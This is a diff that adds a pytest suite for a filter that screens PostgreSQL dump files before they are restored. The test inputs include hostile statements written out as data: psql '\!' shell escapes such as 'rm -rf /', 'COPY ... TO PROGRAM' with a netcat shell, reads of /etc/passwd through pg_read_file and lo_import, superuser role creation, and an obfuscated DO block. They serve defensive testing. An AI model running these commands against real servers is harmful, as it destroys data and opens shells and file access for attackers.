@@ -1,0 +1,210 @@
+"""The PostgreSQL statement filter: psql meta-commands, COPY blocks, dollar quotes, drops."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+
+import pytest
+
+from pipelines.errors import UnsafeInput
+from pipelines.sqlsafety import FilterReport, filter_dump
+
+HEADER = b"""--
+-- PostgreSQL database dump
+--
+
+\\restrict 8TrkwXSfMsbC0lhVVs4T6cDg2uE
+
+SET statement_timeout = 0;
+SET client_encoding = 'UTF8';
+SET standard_conforming_strings = on;
+SELECT pg_catalog.set_config('search_path', '', false);
+"""  # 10 lines
+
+REAL_DUMP = (
+    HEADER
+    + rb"""SET default_tablespace = '';
+CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public;
+CREATE SCHEMA extra;
+ALTER SCHEMA extra OWNER TO postgres;
+CREATE FUNCTION extra.f(x integer) RETURNS integer
+    LANGUAGE plpgsql
+    AS $_$
+BEGIN
+  -- it's a comment with a quote '
+  RAISE NOTICE 'x = %; \! not a meta', x;
+  PERFORM pg_read_file('/etc/passwd'); -- inside a body: not run by the restore
+  RETURN $1 + 1;
+END
+$_$;
+CREATE TABLE extra.t (
+    id integer NOT NULL,
+    s text,
+    b bytea
+);
+COMMENT ON TABLE extra.t IS 'it''s a table; \connect other';
+COPY extra.t (id, s, b) FROM stdin;
+1	back\\slash \\! rm -rf / \n newline	\\x00ff
+2	\\\\.	\N
+3	GRANT; COPY x FROM PROGRAM 'id'; \connect other	\N
+\.
+SELECT pg_catalog.setval('extra.t_id_seq', 3, true);
+ALTER TABLE ONLY extra.t
+    ADD CONSTRAINT t_pkey PRIMARY KEY (id);
+GRANT SELECT ON TABLE extra.t TO reader;
+REVOKE ALL ON SCHEMA public FROM PUBLIC;
+ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA extra GRANT SELECT ON TABLES TO reader;
+INSERT INTO extra.t VALUES (4, E'it\'s \\! E-string; GRANT', NULL), (5, $$dollar \connect x$$, NULL);
+
+\unrestrict 8TrkwXSfMsbC0lhVVs4T6cDg2uE
+"""
+)
+
+
+async def chunked(data: bytes, size: int) -> AsyncIterator[bytes]:
+    for offset in range(0, len(data), size):
+        yield data[offset : offset + size]
+
+
+async def run(data: bytes, size: int = 1 << 20, **kw) -> tuple[bytes, FilterReport]:
+    report = FilterReport()
+    out = [
+        c async for c in filter_dump(chunked(data, size), engine="postgresql", report=report, **kw)
+    ]
+    return b"".join(out), report
+
+
+async def refused(data: bytes) -> UnsafeInput:
+    with pytest.raises(UnsafeInput) as info:
+        await run(data)
+    return info.value
+
+
+def dropped(dump: bytes, *starts: bytes) -> bytes:
+    return b"".join(
+        b"\n" if line.startswith(starts) else line for line in dump.splitlines(keepends=True)
+    )
+
+
+async def test_real_dump_passes_with_owner_and_privileges_dropped():
+    out, report = await run(REAL_DUMP)
+    assert out == dropped(REAL_DUMP, b"ALTER SCHEMA extra OWNER", b"GRANT", b"REVOKE", b"ALTER DEF")
+    assert report.normalised == [
+        "dropped ALTER … OWNER TO statements (they belong to the target server)",
+        "dropped GRANT/REVOKE statements (they belong to the target server)",
+    ]
+    assert report.copy_rows == 3
+    assert report.lines == REAL_DUMP.count(b"\n")
+
+
+@pytest.mark.parametrize("size", [1, 7, 1 << 20])
+async def test_chunk_boundaries_do_not_change_the_output(size):
+    expected, _ = await run(REAL_DUMP)
+    out, report = await run(REAL_DUMP, size)
+    assert out == expected
+    assert report.copy_rows == 3
+
+
+@pytest.mark.parametrize(
+    ("sql", "problem", "shown"),
+    [
+        (b"\\! rm -rf /\n", "psql_meta", "\\! rm -rf /"),
+        (b"\\c other\n", "psql_meta", "\\c"),
+        (b"\\connect other\n", "psql_meta", "\\connect"),
+        (b"\\copy t from '/etc/passwd'\n", "psql_meta", "\\copy"),
+        (b"\\i /etc/passwd\n", "psql_meta", "\\i"),
+        (b"\\ir x.sql\n", "psql_meta", "\\ir"),
+        (b"\\o /tmp/x\n", "psql_meta", "\\o"),
+        (b"SELECT 1 \\g |sh\n", "psql_meta", "\\g |sh"),
+        (b"\\setenv PAGER x\n", "psql_meta", "\\setenv"),
+        (b"SELECT 'x' \\gexec\n", "psql_meta", "\\gexec"),
+        (b"CREATE TABLE t (\n  a int\n) \\! id\n", "psql_meta", "\\! id"),
+        (b"COPY t FROM PROGRAM 'id';\n", "copy_program", "PROGRAM"),
+        (b"COPY t TO PROGRAM 'nc -e sh x';\n", "copy_program", "PROGRAM"),
+        (b"COPY t FROM '/etc/passwd';\n", "copy_file", "COPY"),
+        (b"COPY t TO '/tmp/x';\n", "copy_file", "COPY"),
+        (b"COPY t FROM stdin WITH (FORMAT binary);\n", "copy_file", "COPY"),
+        (b"ALTER SYSTEM SET archive_command = 'id';\n", "alter_system", "ALTER SYSTEM"),
+        (b"CREATE DATABASE x;\n", "database", "CREATE DATABASE"),
+        (b"DROP DATABASE postgres;\n", "database", "DROP DATABASE"),
+        (b"CREATE ROLE evil SUPERUSER;\n", "role", "CREATE ROLE"),
+        (b"ALTER USER postgres PASSWORD 'x';\n", "role", "ALTER USER"),
+        (b"SET ROLE postgres;\n", "role", "SET ROLE"),
+        (b"SET SESSION AUTHORIZATION postgres;\n", "role", "SESSION AUTHORIZATION"),
+        (b"INSERT INTO t SELECT pg_read_file('/etc/passwd');\n", "server_files", "pg_read_file"),
+        (b"SELECT lo_import('/etc/passwd');\n", "server_files", "lo_import"),
+        (b"SELECT lo_export(1, '/tmp/x');\n", "server_files", "lo_export"),
+        (b"INSERT INTO t SELECT * FROM pg_ls_dir('/');\n", "server_files", "pg_ls_dir"),
+        (b"INSERT INTO t SELECT pg_read_binary_file('/x');\n", "server_files", "pg_read_binary"),
+        (
+            b"INSERT INTO t SELECT * FROM dblink('host=x', 'select 1') AS r(a int);\n",
+            "dblink",
+            "dblink",
+        ),
+        (b"DO $$ BEGIN EXECUTE 'COPY t FROM PROG' || 'RAM ''id'''; END $$;\n", "do", "DO"),
+        (b"SELECT evil();\n", "select", "SELECT evil"),
+        (b"SET standard_conforming_strings = off;\n", "quoting_mode", "standard_conforming"),
+        (b"SET client_encoding = 'SJIS';\n", "quoting_mode", "SJIS"),
+        (b"SELECT set_config('role', 'postgres', false);\n", "quoting_mode", "set_config"),
+        (b"CREATE EXTENSION file_fdw;\n", "extension", "file_fdw"),
+        (b"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;\n", "server_objects", "SERVER"),
+        (b"GRANT ALL ON t TO x; SELECT 1;\n", "mixed_line", "SELECT"),
+    ],
+)
+async def test_refusals_name_the_line_and_the_problem(sql, problem, shown):
+    error = await refused(HEADER + sql)
+    assert error.data["problem"] == problem
+    assert error.data["line"] in range(11, 11 + sql.count(b"\n"))
+    assert str(error).startswith(f"line {error.data['line']}: ")
+    assert "is not allowed in a dump" in str(error)
+    assert shown in str(error) or shown in error.data["statement"]
+
+
+async def test_connect_as_pg_dump_dash_c_emits_it_is_refused():
+    error = await refused(HEADER + b"CREATE DATABASE site;\n\\connect site\n")
+    assert error.data["line"] == 11
+
+
+async def test_meta_command_after_a_copy_block_is_caught_on_its_line():
+    dump = b"COPY t (a) FROM stdin;\n\\! data, not a command\n\\.\n\\! id\n"
+    error = await refused(dump)
+    assert (error.data["line"], error.data["problem"]) == (4, "psql_meta")
+
+
+async def test_copy_data_lines_pass_untouched_whatever_they_hold():
+    row = b"%d\t\\\\! rm -rf / \\\\connect x; GRANT ALL\t'\"$$\n"
+    data = b"".join(row % i for i in range(1000))
+    dump = b"COPY t (a, b, c) FROM stdin;\n" + data + b"\\.\r\nSELECT pg_catalog.setval('s', 1);\n"
+    out, report = await run(dump, 333)
+    assert out == dump
+    assert report.copy_rows == 1000
+
+
+async def test_dollar_quoted_bodies_span_lines_and_hide_nothing_after_them():
+    dump = (
+        b"CREATE FUNCTION f() RETURNS int AS $fn$\nSELECT 1; \\! id\n$fn$ LANGUAGE sql;\n"
+        b"GRANT x TO y;\n\\! id\n"
+    )
+    error = await refused(dump)
+    assert error.data["line"] == 5
+
+
+async def test_nested_comments_and_e_strings_are_read_as_psql_reads_them():
+    dump = (
+        b"/* outer /* inner */ still \\! comment */ SELECT pg_catalog.setval('s', 1);\n"
+        b"INSERT INTO t VALUES (E'a\\'b \\\\! x');\n"
+        b"INSERT INTO t VALUES ('a\\');\n"
+    )
+    out, _ = await run(dump)
+    assert out == dump
+
+
+async def test_standard_string_ending_in_backslash_does_not_hide_a_meta_command():
+    error = await refused(b"INSERT INTO t VALUES ('a\\'); \\! id\n")
+    assert error.data["problem"] == "psql_meta"
+
+
+async def test_multi_line_grant_is_dropped_whole():
+    dump = b"GRANT SELECT\n  ON TABLE t\n  TO reader;\nCREATE TABLE u (a int);\n"
+    out, _ = await run(dump)
+    assert out == b"\n\n\nCREATE TABLE u (a int);\n"
